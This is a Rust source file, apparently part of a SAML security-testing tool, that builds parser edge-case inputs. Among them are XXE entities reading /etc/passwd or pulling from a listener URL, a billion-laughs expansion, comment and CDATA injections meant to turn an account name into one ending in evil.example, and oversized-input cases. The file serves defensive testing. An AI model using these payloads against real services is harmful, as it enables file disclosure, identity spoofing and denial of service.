//! What a parser stumbles over, or two parsers read differently.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::{Case, Cases};
use crate::forge::Parts;

pub(super) fn cases(parts: &Parts, listener: &str) -> Vec<Case> {
    let mut cases = Cases::new("parsing");
    let xml = parts.xml();
    document_types(&mut cases, &xml, listener);
    encodings(&mut cases, &xml);
    let alice = "alice@uni.example";
    let name = |to: &str| xml.replace(alice, to);
    cases.xml(
        "comment in the account",
        &name("alice@uni.example<!---->.evil.example"),
    );
    cases.xml(
        "processing instruction in the account",
        &name("alice@uni.example<?x?>.evil.example"),
    );
    cases.xml("CDATA in the account", &name("<![CDATA[alice@uni.example]]>"));
    cases.with("element in the account", parts, |parts| {
        parts.attributes = parts.attributes.replace(alice, "alice<b/>@uni.example");
    });
    cases.xml("comment before the message", &format!("<!-- x -->{xml}"));
    cases.xml("comment after the message", &format!("{xml}<!-- x -->"));
    cases.xml(
        "processing instruction",
        &format!("<?xml-stylesheet href=\"x\"?>{xml}"),
    );
    cases.xml(
        "nested deep",
        &xml.replacen(
            "<samlp:Status>",
            &format!("<samlp:Status>{}{}", "<a>".repeat(100), "</a>".repeat(100)),
            1,
        ),
    );
    cases.xml("nested as deep as it goes", &"<a>".repeat(80_000));
    cases.xml(
        "many elements",
        &xml.replacen(
            "<samlp:Status>",
            &format!("<samlp:Status>{}", "<a/>".repeat(30_000)),
            1,
        ),
    );
    cases.xml(
        "many attributes",
        &xml.replacen(
            "<samlp:Status>",
            &format!(
                "<samlp:Status{}>",
                (0..20_000).map(|n| format!(" a{n}=\"\"")).collect::<String>()
            ),
            1,
        ),
    );
    cases.xml(
        "longer than a message may be",
        &xml.replacen(
            "<samlp:Status>",
            &format!("<samlp:Status>{}", " ".repeat(300_000)),
            1,
        ),
    );
    cases.xml("cut off", xml.get(..xml.len() / 2).unwrap_or_default());
    cases.xml("two messages", &format!("{xml}{xml}"));
    cases.xml("text after the message", &format!("{xml}x"));
    cases.xml(
        "undeclared prefix",
        &xml.replacen("<samlp:Status>", "<nothing:Status>", 1),
    );
    cases.xml(
        "attribute twice",
        &xml.replacen(" Version=\"2.0\"", " Version=\"2.0\" Version=\"2.0\"", 1),
    );
    cases.xml("undefined entity", &name("&alice;"));
    cases.xml("character that is none", &name("alice&#0;@uni.example"));
    cases.xml("nothing", "");
    cases.xml("JSON", "{\"alice\":true}");
    cases.form("empty field", String::new());
    cases.form("no base64", "%%%%".into());
    cases.form(
        "base64 for URLs",
        STANDARD
            .encode(&xml)
            .replace('+', "-")
            .replace('/', "_")
            .replace('=', "")
            + "_-",
    );
    cases.form("field without end", "A".repeat(600_000));
    cases.all
}

fn document_types(cases: &mut Cases, xml: &str, listener: &str) {
    let mut with = |name, inside: &str, account: &str| {
        let document = format!(
            "<!DOCTYPE r [{inside}]>{}",
            xml.replace("alice@uni.example", account)
        );
        cases.xml(name, &document);
    };
    with("document type", "", "alice@uni.example");
    with("entity", "<!ENTITY a \"admin@uni.example\">", "&a;");
    with(
        "entity from a file",
        "<!ENTITY a SYSTEM \"file:///etc/passwd\">",
        "&a;",
    );
    with(
        "entity from the network",
        &format!("<!ENTITY a SYSTEM \"{listener}/entity\">"),
        "&a;",
    );
    with(
        "parameter entity from the network",
        &format!("<!ENTITY % a SYSTEM \"{listener}/parameter\"> %a;"),
        "x",
    );
    let laughs: String = (1..12)
        .map(|n| format!("<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10)))
        .collect();
    with(
        "a billion laughs",
        &format!("<!ENTITY a0 \"ha\">{laughs}"),
        "&a11;",
    );
    with(
        "an attribute declared as ID",
        "<!ATTLIST saml:Subject x ID #IMPLIED>",
        "alice@uni.example",
    );
    cases.xml(
        "document type elsewhere",
        &format!("<!DOCTYPE r SYSTEM \"{listener}/dtd\">{xml}"),
    );
}

fn encodings(cases: &mut Cases, xml: &str) {
    cases.xml(
        "declared as Latin-1",
        &format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{xml}"),
    );
    cases.xml(
        "declared as UTF-7",
        &format!("<?xml version=\"1.0\" encoding='UTF-7'?>{xml}"),
    );
    cases.xml(
        "declared as UTF-16",
        &format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{xml}"),
    );
    cases.xml("XML 1.1", &format!("<?xml version=\"1.1\"?>{xml}"));
    cases.xml("byte order mark", &format!("\u{feff}{xml}"));
    cases.xml(
        "space before the declaration",
        &format!(" <?xml version=\"1.0\"?>{xml}"),
    );
    let wide: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    cases.form(
        "UTF-16",
        STANDARD.encode([&[0xff, 0xfe], wide.as_slice()].concat()),
    );
    let mut broken = xml.as_bytes().to_vec();
    broken.insert(xml.find("Alice").unwrap_or(0), 0xff);
    cases.form("broken UTF-8", STANDARD.encode(broken));
}
